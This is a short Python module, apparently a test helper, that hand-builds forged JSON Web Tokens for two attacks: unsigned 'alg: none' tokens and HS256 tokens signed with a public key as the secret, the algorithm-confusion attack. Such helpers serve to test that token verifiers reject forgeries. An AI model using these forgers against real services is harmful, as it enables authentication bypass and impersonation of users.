"""Hand-built JWTs for attacks a JWT library will not produce on request."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unsigned(header: dict[str, Any], claims: dict[str, Any]) -> str:
    """``alg: none`` style: header and claims with an empty signature (RFC 7519 §6.1)."""
    return f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(claims).encode())}."


def hmac_signed(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    """HS256 over header.claims with ``secret`` — used with a *public* key as the secret."""
    signing_input = f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(claims).encode())}"
    mac = hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64url(mac)}"
